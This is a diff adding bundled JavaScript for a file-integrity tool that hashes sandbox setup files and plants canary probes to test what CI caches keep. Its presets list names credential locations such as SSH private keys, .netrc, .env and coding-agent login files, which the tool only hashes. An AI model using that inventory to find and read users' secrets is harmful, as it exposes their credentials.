+    if (opts.fullHash)
+        return captureEntry(workspace, { ...req, kind: 'blob', tier: 3 }, taken, {
+            pool: opts.pool ?? {}
+        });
+    if (taken.has(req.id))
+        throw new UsageError(`entry "${req.id}" already exists in the manifest`);
+    const loc = locateInside(workspace, req.path);
+    if (loc.state !== 'present')
+        throw new UsageError(`${req.path}: cannot add: ${loc.why}`);
+    if (!loc.st.isFile())
+        throw new UsageError(`${req.path}: cannot add as blob: it is not a regular file`);
+    const ht = hashHeadTail(loc.abs);
+    const expect = { size: ht.size, headtail: ht.sha256, mode: octal(ht.mode) };
+    return { entry: { id: req.id, kind: 'blob', path: req.path, tier: 3, needs: [], expect } };
+}
+
+;// CONCATENATED MODULE: ./src/core/author/presets.ts
+/**
+ * Presets: the files common sandboxes keep their setup in (shell profiles, coding-agent settings),
+ * as paths relative to $HOME, the workspace of ~/.swr/manifest.json. Only paths that exist and are
+ * not tracked yet are added. Secrets among them (see secrets.ts) become tier-0 `file` entries:
+ * tracked by hash, never escrowed.
+ *
+ * Left out on purpose: files the tools rewrite on every run (~/.claude.json with its counters and
+ * per-project history, session logs, histories, caches), because a hash of them would fail every
+ * check; and large installed payloads (extensions) that a reinstall brings back.
+ */
+
+
+
+
+
+
+
+
+const PRESETS = [
+    {
+        name: 'shell',
+        description: 'shell profiles, git and ssh configuration, and the logins a shell uses',
+        paths: [
+            '.bashrc',
+            '.bash_profile',
+            '.bash_login',
+            '.bash_logout',
+            '.bash_aliases',
+            '.profile',
+            '.zshrc',
+            '.zshenv',
+            '.zprofile',
+            '.zlogin',
+            '.inputrc',
+            '.vimrc',
+            '.tmux.conf',
+            '.config/fish/config.fish',
+            '.config/fish/functions',
+            '.gitconfig',
+            '.config/git/config',
+            '.config/git/ignore',
+            '.ssh/config',
+            '.ssh/authorized_keys',
+            '.ssh/id_*',
+            '.netrc',
+            '.git-credentials',
+            '.npmrc',
+            '.pypirc',
+            '.config/gh/config.yml',
+            '.config/gh/hosts.yml'
+        ]
+    },
+    {
+        name: 'claude-code',
+        description: 'Claude Code: user settings, memory, commands, agents, skills, hooks, login',
+        paths: [
+            '.claude/settings.json',
+            '.claude/settings.local.json',
+            '.claude/CLAUDE.md',
+            '.claude/commands',
+            '.claude/agents',
+            '.claude/skills',
+            '.claude/hooks',
+            '.claude/rules',
+            '.claude/output-styles',
+            '.claude/.credentials.json'
+        ]
+    },
+    {
+        name: 'codex',
+        description: 'OpenAI Codex CLI: config.toml, AGENTS.md, prompts, skills, rules, login',
+        paths: [
+            '.codex/config.toml',
+            '.codex/AGENTS.md',
+            '.codex/AGENTS.override.md',
+            '.codex/prompts',
+            '.codex/agents',
+            '.codex/skills',
+            '.codex/rules',
+            '.codex/auth.json'
+        ]
+    },
+    {
+        name: 'aider',
+        description: 'aider: its configuration files and the .env holding API keys',
+        paths: ['.aider.conf.yml', '.aider.model.settings.yml', '.aider.model.metadata.json', '.env']
+    },
+    {
+        name: 'cursor',
+        description: 'Cursor: MCP servers, CLI config, editor settings, keybindings, snippets',
+        paths: [
+            '.cursor/mcp.json',
+            '.cursor/cli-config.json',
+            '.cursor/rules',
+            '.config/Cursor/User/settings.json',
+            '.config/Cursor/User/keybindings.json',
+            '.config/Cursor/User/snippets'
+        ]
+    },
+    {
+        name: 'gemini',
+        description: 'Gemini CLI: settings, GEMINI.md, commands, login',
+        paths: [
+            '.gemini/settings.json',
+            '.gemini/GEMINI.md',
+            '.gemini/commands',
+            '.gemini/oauth_creds.json'
+        ]
+    }
+];
+function presetNamed(name) {
+    const p = PRESETS.find(x => x.name === name);
+    if (!p)
+        throw new UsageError(`preset "${name}": unknown (known: ${PRESETS.map(x => x.name).join(', ')})`);
+    return p;
+}
+
+function planPreset(workspace, preset, entries) {
+    const cov = coverageOf(entries);
+    const plan = { requests: [], skipped: [], absent: 0 };
+    for (const rel of preset.paths.flatMap(p => expand(workspace, p))) {
+        const loc = locateInside(workspace, rel);
+        if (loc.state === 'missing')
+            plan.absent++;
+        else if (loc.state === 'escapes')
+            plan.skipped.push({ path: rel, why: loc.why });
+        else {
+            const by = cov.trackedBy(rel);
+            const st = loc.st;
+            if (by)
+                plan.skipped.push({ path: rel, why: `already tracked by "${by.id}"` });
+            else if (!st.isFile() && !st.isDirectory() && !st.isSymbolicLink())
+                plan.skipped.push({ path: rel, why: 'not a file, directory or symlink' });
+            else
+                plan.requests.push(requestFor(rel, st.isFile(), st.isDirectory()));
+        }
+    }
+    return plan;
+}
+function requestFor(rel, isFile, isDir) {
+    if (isSecretPath(rel))
+        return { path: rel, ...(isFile ? { kind: 'file' } : {}), tier: 0, note: SECRET_NOTE };
+    return isDir ? { path: rel, kind: 'tree', ignore: [...VCS_DIRS] } : { path: rel };
+}
+/** A preset path, or the names its glob matches now (sorted). */
+function expand(workspace, p) {
+    const base = path.posix.basename(p);
+    if (!/[*?[]/.test(base))
+        return [p];
+    const dir = path.posix.dirname(p);
+    const match = picomatch(base, { dot: true });
+    return listDir(path.join(workspace, dir))
+        .filter(n => match(n))
+        .map(n => `${dir}/${n}`);
+}
+
+;// CONCATENATED MODULE: ./src/core/author/retighten.ts
+/**
+ * `retighten`: raise loose tree bounds to what is on disk now, never loosening them. A tree's
+ * min_files goes up to the current file count when that is higher, and its max_files comes down
+ * to the current count when that is lower (or is set when there was none). Only trees that verify
+ * right now are touched: a damaged tree's count is the damage, not the truth.
+ */
+
+
+/** The trees `only` names (every tree without it); a named entry that is no tree is bad usage. */
+function treesToRetighten(entries, only) {
+    const selected = selectEntries(entries, only);
+    const notTrees = only && only.length > 0 ? selected.filter(e => e.kind !== 'tree') : [];
+    const first = notTrees[0];
+    if (first)
+        throw new UsageError(`--only ${first.id}: a ${first.kind} entry has no file-count bounds (retighten changes trees only)`);
+    return selected.filter((e) => e.kind === 'tree');
+}
+/** What to change, given each tree's finding from a check made just now. */
+function planRetighten(trees, findings) {
+    const byId = new Map(findings.map(f => [f.id, f]));
+    const plan = { changes: [], skipped: [] };
+    for (const e of trees) {
+        const f = byId.get(e.id);
+        const files = f?.found.files;
+        if (!f || f.status !== 'OK' || typeof files !== 'number') {
+            const why = f ? `${f.status}: ${f.detail}` : 'not checked';
+            plan.skipped.push({ id: e.id, why: `does not verify now (${why}); repair it first` });
+            continue;
+        }
+        plan.changes.push(...boundChanges(e, files));
+    }
+    return plan;
+}
+function boundChanges(e, files) {
+    const out = [];
+    if (files > e.expect.min_files)
+        out.push({ id: e.id, field: 'min_files', from: e.expect.min_files, to: files });
+    const max = e.expect.max_files;
+    if (max === undefined || files < max)
+        out.push({
+            id: e.id,
+            field: 'max_files',
+            from: max ?? null,
+            to: Math.max(files, e.expect.min_files)
+        });
+    return out;
+}
+/** Apply `changes` to the entries in place. */
+function applyRetighten(entries, changes) {
+    const byId = new Map(entries.map(e => [e.id, e]));
+    for (const c of changes) {
+        const e = byId.get(c.id);
+        if (e?.kind === 'tree')
+            e.expect[c.field] = c.to;
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/anchor.ts
+/**
+ * Where a probe lives, said relative to a place that has another absolute path on the next runner:
+ * the workspace (GITHUB_WORKSPACE moves between runners and checkouts), the home directory or the
+ * temp directory. A ledger planted on one machine and read on another still finds its probes.
+ */
+
+function inside(dir, abs) {
+    const rel = path.relative(dir, abs);
+    if (rel === '')
+        return '';
+    if (rel.startsWith('..') || path.isAbsolute(rel))
+        return undefined;
+    return rel.split(path.sep).join('/');
+}
+/** The workspace first: a workspace inside $HOME is still described by the workspace. */
+function anchor_anchor(abs, anchors) {
+    for (const name of ['workspace', 'home', 'tmp']) {
+        const rel = inside(anchors[name], abs);
+        if (rel !== undefined)
+            return { anchor: name, rel };
+    }
+    return { anchor: 'abs', rel: path.resolve(abs) };
+}
+function anchor_resolveAnchored(a, anchors) {
+    if (a.anchor === 'abs')
+        return a.rel;
+    return a.rel === '' ? anchors[a.anchor] : path.join(anchors[a.anchor], ...a.rel.split('/'));
+}
+/** `~/x`, `$TMPDIR/x`, `x` (workspace) or the absolute path: short and unambiguous in reports. */
+function anchor_showAnchored(a) {
+    switch (a.anchor) {
+        case 'workspace':
+            return a.rel === '' ? '.' : a.rel;
+        case 'home':
+            return a.rel === '' ? '~' : `~/${a.rel}`;
+        case 'tmp':
+            return a.rel === '' ? '$TMPDIR' : `$TMPDIR/${a.rel}`;
+        case 'abs':
+            return a.rel;
+    }
+}
+/**
+ * For tables: a 255-byte probe name or a 20-level path would push every column off the screen,
+ * so long names keep their head and byte count, and deep paths their two ends.
+ */
+function anchor_abbreviate(p) {
+    const segs = p
+        .split('/')
+        .map(seg => Buffer.byteLength(seg) > 60 ? `${seg.slice(0, 40)}…(${Buffer.byteLength(seg)} bytes)` : seg);
+    return segs.length > 6 ? [...segs.slice(0, 2), '…', ...segs.slice(-2)].join('/') : segs.join('/');
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/clean.ts
+/**
+ * Removing exactly what a planting made: each probe only while it is still the kind of thing that
+ * was planted (a probe name now holding a user's directory is left alone), then the directories
+ * the planting created, deepest first, only when empty.
+ */
+
+
+
+
+/**
+ * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
+ * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
+ * outside the workspace) must at least sit in a directory that is not a symlink.
+ */
+function locate(a, anchors) {
+    if (a.anchor !== 'abs')
+        return resolveNoFollow(anchors[a.anchor], a.rel);
+    const abs = resolveAnchored(a, anchors);
+    if (fs.lstatSync(path.dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
+        throw new SymlinkRefusal(path.dirname(abs), 'is a symlink; not following it');
+    return abs;
+}
+function plantedKind(p) {
+    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
+}
+function removeIfPlanted(abs, kind, shown, out) {
+    const st = fs.lstatSync(abs, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    const now = st.isSymbolicLink()
+        ? 'symlink'
+        : st.isDirectory()
+            ? 'dir'
+            : st.isFile()
+                ? 'file'
+                : 'other';
+    if (now !== kind) {
+        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
+        return;
+    }
+    try {
+        if (kind === 'dir')
+            fs.rmdirSync(abs);
+        else
+            fs.unlinkSync(abs);
+        out.removed.push(shown);
+    }
+    catch (e) {
+        out.kept.push({ path: shown, why: e.code ?? String(e) });
+    }
+}
+function clean_cleanLedger(ledger, anchors) {
+    const out = { removed: [], kept: [] };
+    // Links first, then files, then the empty directory a link points at.
+    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
+    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
+        let abs;
+        try {
+            abs = locate(p.path, anchors);
+        }
+        catch (e) {
+            if (!(e instanceof SymlinkRefusal))
+                throw e;
+            out.kept.push({ path: showAnchored(p.path), why: e.message });
+            continue;
+        }
+        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
+        if (p.expect.type === 'hardlink') {
+            const peer = path.join(path.dirname(abs), p.expect.peer);
+            removeIfPlanted(peer, 'file', path.join(path.dirname(showAnchored(p.path)), p.expect.peer), out);
+        }
+    }
+    const dirs = ledger.locations.flatMap(l => l.created);
+    for (const d of dirs.reverse()) {
+        let abs;
+        try {
+            abs = locate(d, anchors);
+        }
+        catch (e) {
+            if (!(e instanceof SymlinkRefusal))
+                throw e;
+            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
+            continue;
+        }
+        const st = fs.lstatSync(abs, { throwIfNoEntry: false });
+        if (!st?.isDirectory())
+            continue;
+        try {
+            fs.rmdirSync(abs);
+            out.removed.push(showAnchored(d) + '/');
+        }
+        catch {
+            out.kept.push({
+                path: showAnchored(d) + '/',
+                why: 'not empty: holds files that were not planted'
+            });
+        }
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/probes.ts
+/**
+ * Probe classes: each one asks a different question of whatever keeps (or drops) files between
+ * runs. Does it keep exec bits? Private modes? Symlinks, to files and to directories? Empty
+ * directories? Hard links as links? 255-byte and non-ASCII names? Dotfiles? Files above a size
+ * cap? A probe records everything it expects, so a read names the attribute that changed.
+ *
+ * Every probe is created exclusively (O_EXCL, never following a link): planting never replaces a
+ * file, and names carry the planting's random id so they cannot meet a user's file by chance.
+ */
+
+
+
+
+const probes_PROBE_CLASSES = (/* unused pure expression or super */ null && ([
+    'stamp',
+    'script',
+    'private',
+    'symlink',
+    'dirlink',
+    'emptydir',
+    'hardlink',
+    'longname',
+    'unicode',
+    'dotfile',
+    'large'
+]));
+const probes_CLASS_QUESTION = {
+    stamp: 'small file with a random stamp',
+    script: 'executable script (0755)',
+    private: 'private file (0600)',
+    symlink: 'relative symlink to a file',
+    dirlink: 'symlink to a directory',
+    emptydir: 'empty directory',
+    hardlink: 'hard-link pair',
+    longname: 'file name of 255 bytes',
+    unicode: 'non-ASCII file name',
+    dotfile: 'dotfile',
+    large: 'large file (size caps)'
+};
+/** The bytes names may use, so a 255-byte name fits every common file system's limit exactly. */
+const NAME_MAX = 255;
+function probes_probeName(plantId, cls) {
+    const base = `swr-canary-${plantId}-${cls}`;
+    switch (cls) {
+        case 'dotfile':
+            return `.${base}`;
+        case 'unicode':
+            // NFC on purpose: a store that normalises to NFD changes the name, which reads as lost.
+            return `${base}-\u00fcn\u00efc\u00f8d\u00e9-\u540d\u524d-\u{1f424}`.normalize('NFC');
+        case 'longname':
+            return base + '-' + 'l'.repeat(NAME_MAX - Buffer.byteLength(base) - 1);
+        case 'hardlink':
+            return `${base}-a`;
+        default:
+            return base;
+    }
+}
+function probes_hardlinkPeerName(plantId) {
+    return `swr-canary-${plantId}-hardlink-b`;
+}
+function probes_octal(mode) {
+    return '0' + (mode & 0o7777).toString(8).padStart(3, '0');
+}
+function sha256(data) {
+    return createHash('sha256').update(data).digest('hex');
+}
+const CREATE = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
+/** Create `abs` exclusively with exactly `mode` (fchmod, so the umask cannot narrow it). */
+function createFile(abs, data, mode) {
+    const fd = fs.openSync(abs, CREATE, mode);
+    try {
+        writeAll(fd, data);
+        fs.fchmodSync(fd, mode);
+    }
+    finally {
+        fs.closeSync(fd);
+    }
+}
+/**
+ * Incompressible bytes, streamed: a cache that compresses would otherwise store 64 MiB of zeros
+ * in a few kilobytes and never meet its size cap. AES-CTR keystream under a random key is fast
+ * and needs no buffer of the whole size.
+ */
+function createLarge(abs, size) {
+    const cipher = createCipheriv('aes-256-ctr', randomBytes(32), randomBytes(16));
+    const hash = createHash('sha256');
+    const zero = Buffer.alloc(1 << 20);
+    const fd = fs.openSync(abs, CREATE, 0o644);
+    try {
+        for (let left = size; left > 0;) {
+            const n = Math.min(left, zero.length);
+            const chunk = cipher.update(zero.subarray(0, n));
+            writeAll(fd, chunk);
+            hash.update(chunk);
+            left -= n;
+        }
+        fs.fchmodSync(fd, 0o644);
+    }
+    finally {
+        fs.closeSync(fd);
+    }
+    return hash.digest('hex');
+}
+function stampText(plantId, cls) {
+    return Buffer.from(`swr canary ${plantId} ${cls} ${randomBytes(12).toString('hex')}\n`);
+}
+/**
+ * Plant one probe of `cls` in `ctx.dir`; returns its expectation, with paths relative to the
+ * directory (the caller anchors them). Throws on EEXIST and every other failure.
+ */
+function probes_plantProbe(cls, ctx) {
+    const name = probes_probeName(ctx.plantId, cls);
+    const abs = path.join(ctx.dir, name);
+    const file = (data, mode) => {
+        createFile(abs, data, mode);
+        ctx.created.push(abs);
+        return { type: 'file', mode: probes_octal(mode), size: data.length, sha256: sha256(data) };
+    };
+    switch (cls) {
+        case 'script': {
+            const body = `#!/bin/sh\n# swr canary ${ctx.plantId}\necho ${randomBytes(8).toString('hex')}\n`;
+            return { name, expect: file(Buffer.from(body), 0o755) };
+        }
+        case 'private':
+            return { name, expect: file(stampText(ctx.plantId, cls), 0o600) };
+        case 'stamp':
+        case 'longname':
+        case 'unicode':
+        case 'dotfile':
+            return { name, expect: file(stampText(ctx.plantId, cls), 0o644) };
+        case 'large': {
+            const digest = createLarge(abs, ctx.largeBytes);
+            ctx.created.push(abs);
+            return { name, expect: { type: 'file', mode: '0644', size: ctx.largeBytes, sha256: digest } };
+        }
+        case 'emptydir':
+            fs.mkdirSync(abs, { mode: 0o755 });
+            ctx.created.push(abs);
+            fs.chmodSync(abs, 0o755);
+            return { name, expect: { type: 'dir', mode: '0755' } };
+        case 'symlink':
+        case 'dirlink': {
+            // Relative targets: an absolute one would point back at the old machine after a move.
+            const target = cls === 'symlink' ? probes_probeName(ctx.plantId, 'stamp') : probes_probeName(ctx.plantId, 'emptydir');
+            fs.symlinkSync(target, abs);
+            ctx.created.push(abs);
+            return {
+                name,
+                expect: { type: 'symlink', target, resolves: cls === 'symlink' ? 'file' : 'dir' }
+            };
+        }
+        case 'hardlink': {
+            const data = stampText(ctx.plantId, cls);
+            createFile(abs, data, 0o644);
+            ctx.created.push(abs);
+            const peer = probes_hardlinkPeerName(ctx.plantId);
+            fs.linkSync(abs, path.join(ctx.dir, peer));
+            ctx.created.push(path.join(ctx.dir, peer));
+            return {
+                name,
+                expect: { type: 'hardlink', mode: '0644', size: data.length, sha256: sha256(data), peer }
+            };
+        }
+    }
+}
+/** Links need their targets first: plant in this order. */
+function probes_plantingOrder(classes) {
+    const rank = (c) => (c === 'symlink' || c === 'dirlink' ? 1 : 0);
+    return [...classes].sort((a, b) => rank(a) - rank(b));
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/ledger.ts
+/**
+ * The canary ledger: what one planting put where, kept in the private state directory (0600,
+ * written atomically). It is the only record of the probes, so reading it is strict: a damaged
+ * ledger is an error naming the field, never a silent "everything lost".
+ *
+ * Clean removes what the ledger names, so the ledger is authenticated before anything acts on it:
+ * HMAC-SHA256 over its canonical JSON under a key kept beside it (ledger.key, 32 random bytes,
+ * created 0600 with the first planting). A ledger that fails is refused in one line and nothing is
+ * removed. The key guards against a ledger written by anything but swr with this state directory;
+ * where the state directory itself travels (the Action's cache), it is as strong as that channel,
+ * and the name rules below still confine what a ledger may name.
+ */
+
+
+
+
+
+
+
+
+const ledger_LEDGER_FORMAT = 'swr-canary-ledger/1';
+const CANARY_DIR = 'canary';
+const LEDGER_FILE = 'ledger.json';
+const KEY_FILE = 'ledger.key';
+const MAX_LEDGER_BYTES = (/* unused pure expression or super */ null && (8 * 1024 * 1024));
+function ledgerPath(stateDir) {
+    return path.join(stateDir, CANARY_DIR, LEDGER_FILE);
+}
+function keyPath(stateDir) {
+    return path.join(stateDir, CANARY_DIR, KEY_FILE);
+}
+/** The ledger key, or undefined when there is none (nothing was planted with this state). */
+function readKey(stateDir) {
+    const file = keyPath(stateDir);
+    let fd;
+    try {
+        fd = fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NOFOLLOW);
+    }
+    catch (e) {
+        if (e.code === 'ENOENT')
+            return undefined;
+        throw bad(file, `cannot be read (${e.code ?? String(e)})`);
+    }
+    try {
+        const buf = Buffer.alloc(128);
+        const n = fs.readSync(fd, buf, 0, buf.length, 0);
+        const text = buf.subarray(0, n).toString('utf8').trim();
+        if (!/^[0-9a-f]{64}$/.test(text))
+            throw bad(file, 'is not a ledger key (64 hex digits)');
+        return Buffer.from(text, 'hex');
+    }
+    finally {
+        fs.closeSync(fd);
+    }
+}
+/** The key, created on first use (exclusively, 0600: a concurrent creator's key wins). */
+function ledgerKey(stateDir) {
+    const have = readKey(stateDir);
+    if (have)
+        return have;
+    ensurePrivateDir(stateDir, CANARY_DIR);
+    try {
+        writeFileAtomic(keyPath(stateDir), randomBytes(32).toString('hex') + '\n', {
+            mode: 0o600,
+            exclusive: true
+        });
+    }
+    catch (e) {
+        if (e.code !== 'EEXIST')
+            throw e;
+    }
+    const key = readKey(stateDir);
+    if (!key)
+        throw bad(keyPath(stateDir), 'vanished after it was created');
+    return key;
+}
+function macOf(key, body) {
+    return createHmac('sha256', key).update(canonicalBytes(body)).digest('hex');
+}
+function ledger_writeLedger(stateDir, ledger) {
+    const key = ledgerKey(stateDir);
+    const { mac: _old, ...body } = ledger;
+    const signed = { ...body, mac: macOf(key, body) };
+    writeFileAtomic(ledgerPath(stateDir), JSON.stringify(signed, null, 1) + '\n', { mode: 0o600 });
+}
+/** Throws unless `v` carries the MAC this state directory's key gives it. */
+function authenticate(stateDir, file, v) {
+    const refuse = (why) => bad(file, `${why}; nothing was removed (delete the ledger to plant again)`);
+    const key = readKey(stateDir);
+    if (!key)
+        throw refuse('cannot be authenticated: no ledger key in the state directory');
+    if (typeof v.mac !== 'string' || !/^[0-9a-f]{64}$/.test(v.mac))
+        throw refuse('fails authentication: it carries no MAC');
+    const { mac, ...body } = v;
+    let want;
+    try {
+        want = macOf(key, body);
+    }
+    catch {
+        throw refuse('fails authentication: it has no canonical form');
+    }
+    if (!timingSafeEqual(Buffer.from(want, 'hex'), Buffer.from(mac, 'hex')))
+        throw refuse('fails authentication: not written by swr with this state directory, or altered');
+}
+function bad(file, why) {
+    return new SwrError(`canary ledger ${file}: ${why}`, EXIT.BAD_MANIFEST);
+}
+function isAnchored(v) {
+    const a = v;
+    return (typeof a === 'object' &&
+        a !== null &&
+        ['workspace', 'home', 'tmp', 'abs'].includes(a.anchor) &&
+        typeof a.rel === 'string' &&
+        !a.rel.split('/').includes('..'));
+}
+/**
+ * Clean removes the directories a location lists as created (when empty), so a location may only
+ * list its own directory and that directory's parents, and only where planting creates any: the
+ * deep path and the temp directory carry this planting's name, a volatile directory is the named
+ * directory of the workspace, --at paths are the caller's; the workspace and home create nothing.
+ */
+function createdProblem(plantId, l) {
+    const under = (a, b) => a.anchor === b.anchor && (a.rel === b.rel || b.rel.startsWith(`${a.rel}/`));
+    if (!l.created.every(c => under(c, l.dir)))
+        return 'names a directory that is not the location';
+    if (l.created.length === 0)
+        return undefined;
+    const first = l.created[0];
+    const own = `swr-canary-${plantId}-`;
+    if (l.id === 'deep')
+        return first.anchor === 'workspace' && first.rel === `${own}deep`
+            ? undefined
+            : 'is not the deep path';
+    if (l.id === 'tmp')
+        return l.created.length === 1 && path.posix.basename(first.rel).startsWith(own)
+            ? undefined
+            : "is not this planting's temp directory";
+    if (l.id.startsWith('volatile:'))
+        return l.created.length === 1 &&
+            first.anchor === 'workspace' &&
+            first.rel === l.id.slice('volatile:'.length) &&
+            !first.rel.includes('/')
+            ? undefined
+            : 'is not the volatile directory';
+    return l.id.startsWith('at:') ? undefined : `lists directories, but ${l.id} creates none`;
+}
+function checkProbe(file, plantId, p, i, locations) {
+    const where = `probes[${i}]`;
+    if (!PROBE_CLASSES.includes(p?.class))
+        throw bad(file, `${where}.class is not a probe class`);
+    if (!locations.has(p.location))
+        throw bad(file, `${where}.location names no location`);
+    if (!isAnchored(p.path))
+        throw bad(file, `${where}.path is not an anchored path`);
+    // Clean unlinks what the ledger names: a ledger (say, restored from a poisoned cache) may only
+    // name files this planting's naming rule produces, never a user's file.
+    if (path.posix.basename(p.path.rel) !== probeName(plantId, p.class))
+        throw bad(file, `${where}.path is not a ${p.class} probe of planting ${plantId}`);
+    const e = p.expect;
+    if (typeof e !== 'object' ||
+        e === null ||
+        !['file', 'dir', 'symlink', 'hardlink'].includes(e.type))
+        throw bad(file, `${where}.expect.type is not file, dir, symlink or hardlink`);
+    if ((e.type === 'symlink' || e.type === 'hardlink') &&
+        typeof (e.type === 'symlink' ? e.target : e.peer) !== 'string')
+        throw bad(file, `${where}.expect has no link target`);
+    if (e.type === 'hardlink' && e.peer !== hardlinkPeerName(plantId))
+        throw bad(file, `${where}.expect.peer is not this planting's second name`);
+    if ((e.type === 'file' || e.type === 'hardlink') && !/^[0-9a-f]{64}$/.test(e.sha256))
+        throw bad(file, `${where}.expect.sha256 is not a sha256`);
+}
+/** The ledger, or undefined when nothing was planted; throws on a damaged ledger. */
+function ledger_readLedger(stateDir) {
+    const file = ledgerPath(stateDir);
+    const st = fs.lstatSync(file, { throwIfNoEntry: false });
+    if (!st)
+        return undefined;
+    if (!st.isFile())
+        throw bad(file, 'is not a regular file');
+    if (st.size > MAX_LEDGER_BYTES)
+        throw bad(file, `larger than ${MAX_LEDGER_BYTES} bytes`);
+    let v;
+    try {
+        v = JSON.parse(fs.readFileSync(file, 'utf8'));
+    }
+    catch (e) {
+        throw bad(file, `not JSON (${e instanceof Error ? e.message : String(e)})`);
+    }
+    if (v?.format !== ledger_LEDGER_FORMAT)
+        throw bad(file, `format is not ${ledger_LEDGER_FORMAT}`);
+    if (typeof v.plant_id !== 'string' || !/^[0-9a-f]{8,32}$/.test(v.plant_id))
+        throw bad(file, 'plant_id is not a planting id');
+    if (!Array.isArray(v.locations) || !Array.isArray(v.probes))
+        throw bad(file, 'locations and probes must be arrays');
+    const ids = new Set();
+    v.locations.forEach((l, i) => {
+        if (typeof l?.id !== 'string' ||
+            !isAnchored(l.dir) ||
+            !Array.isArray(l.created) ||
+            !l.created.every(isAnchored))
+            throw bad(file, `locations[${i}] is malformed`);
+        const why = createdProblem(v.plant_id, l);
+        if (why)
+            throw bad(file, `locations[${i}].created ${why}`);
+        ids.add(l.id);
+    });
+    v.probes.forEach((p, i) => checkProbe(file, v.plant_id, p, i, ids));
+    // Shape first (errors name the field), then the MAC, before anything acts on the ledger.
+    authenticate(stateDir, file, v);
+    return v;
+}
+function removeLedger(stateDir) {
+    fs.rmSync(ledgerPath(stateDir), { force: true });
+}
+
+;// CONCATENATED MODULE: ./src/core/canary/locations.ts
+/**
+ * Where probes go: the places a runner, cache or sandbox treats differently. The workspace root, a
+ * path 20 directories deep (path-length and depth limits), every volatile directory that exists
+ * or is asked for (node_modules, build, .cache, ...: the usual exclusions), $HOME, a fresh
+ * directory in the temp dir, and every `--at` path (what a cache step saves).
+ */
+
+
+
+
+
+
+const DEEP_LEVELS = 20;
+function isRealDir(abs) {
+    const st = fs.lstatSync(abs, { throwIfNoEntry: false });
+    return st?.isDirectory() === true;
+}
+function checkAt(abs) {
+    const st = fs.lstatSync(abs, { throwIfNoEntry: false });
+    if (!st)
+        return;
+    if (st.isSymbolicLink())
+        throw new UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
+    if (!st.isDirectory())
+        throw new UsageError(`--at ${abs}: is not a directory`);
+}
+/** An --at path inside the workspace may not pass through a symlink there (the workspace is hostile). */
+function insideWorkspaceNoFollow(workspace, abs, at) {
+    const rel = relativeInside(workspace, abs);
+    if (rel === undefined || rel === '.')
+        return;
+    try {
+        resolveNoFollow(workspace, rel);
+    }
+    catch (e) {
+        if (e instanceof SymlinkRefusal)
+            throw new UsageError(`--at ${at}: ${e.message}`);
+        throw e;
+    }
+}
+function locations_planLocations(req) {
+    const out = [
+        { id: 'workspace', abs: req.workspace, make: 'exists' },
+        { id: 'deep', abs: path.join(req.workspace, `swr-canary-${req.plantId}-deep`), make: 'deep' }
+    ];
+    const names = new Set(req.volatile);
+    for (const name of VOLATILE_DIRS)
+        if (isRealDir(path.join(req.workspace, name)))
+            names.add(name);
+    for (const name of [...names].sort()) {
+        if (!/^[^/\0]{1,255}$/.test(name) || name === '.' || name === '..')
+            throw new UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
+        const abs = path.join(req.workspace, name);
+        // A probe, the multi-GiB large one included, must never land outside through a planted link.
+        if (fs.lstatSync(abs, { throwIfNoEntry: false })?.isSymbolicLink())
+            throw new UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
+        out.push({ id: `volatile:${name}`, abs, make: isRealDir(abs) ? 'exists' : 'mkdir' });
+    }
+    if (req.includeHome && isRealDir(req.home))
+        out.push({ id: 'home', abs: req.home, make: 'exists' });
+    if (req.includeTmp)
+        out.push({ id: 'tmp', abs: req.tmp, make: 'mkdtemp' });
+    for (const at of req.at) {
+        const abs = path.resolve(at);
+        if (abs === path.parse(abs).root)
+            throw new UsageError(`--at ${at}: refusing the root directory`);
+        checkAt(abs);
+        insideWorkspaceNoFollow(req.workspace, abs, at);
+        // Named as anchored, so the same directory keeps one history row across runners and paths.
+        out.push({
+            id: `at:${showAnchored(anchor(abs, req))}`,
+            abs,
+            make: fs.existsSync(abs) ? 'exists' : 'mkdir'
+        });
+    }
+    // One location per directory: $HOME may be the workspace, an --at path may repeat another.
+    const seen = new Set();
+    return out.filter(l => l.make === 'mkdtemp' || !seen.has(l.abs) ? (seen.add(l.abs), true) : false);
+}
+/** Make the location exist; returns the directory and what was created, for undo and clean. */
+function locations_materialize(loc, plantId, anchors, created) {
+    let dir = loc.abs;
+    const mine = [];
+    switch (loc.make) {
+        case 'exists':
+            break;
+        case 'mkdir': {
+            const first = fs.mkdirSync(loc.abs, { recursive: true, mode: 0o755 });
+            // mkdirSync returns the first directory it made: every level from there down is ours.
+            if (first)
+                for (let d = loc.abs;; d = path.dirname(d)) {
+                    mine.unshift(d);
+                    if (d === first)
+                        break;
+                }
+            break;
+        }
+        case 'deep': {
+            fs.mkdirSync(loc.abs, { mode: 0o755 });
+            mine.push(loc.abs);
+            for (let i = 2; i <= DEEP_LEVELS; i++) {
+                dir = path.join(dir, `d${String(i).padStart(2, '0')}`);
+                fs.mkdirSync(dir, { mode: 0o755 });
+                mine.push(dir);
+            }
+            break;
+        }
+        case 'mkdtemp':
+            // A fresh random directory: never a fixed name in a directory other users share.
+            dir = fs.mkdtempSync(path.join(loc.abs, `swr-canary-${plantId}-`));
+            mine.push(dir);
+            break;
+    }
+    created.push(...mine);
+    return {
+        location: { id: loc.id, dir: anchor(dir, anchors), created: mine.map(d => anchor(d, anchors)) },
+        abs: dir
+    };
+}
+
